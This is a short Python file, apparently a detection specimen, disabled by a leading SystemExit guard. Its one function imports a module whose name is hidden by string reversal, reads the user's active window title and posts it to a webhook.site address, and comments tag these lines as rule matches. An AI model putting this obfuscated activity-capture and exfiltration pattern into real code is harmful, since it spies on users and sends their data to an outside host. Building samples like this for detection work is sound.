raise SystemExit("specimen: not to be run")
import importlib
import requests

def tell():
    window = importlib.import_module("wodniwtegyp"[::-1]).getActiveWindowTitle()  # match: active-window
    requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data=window)  # match: out-of-band-beacon
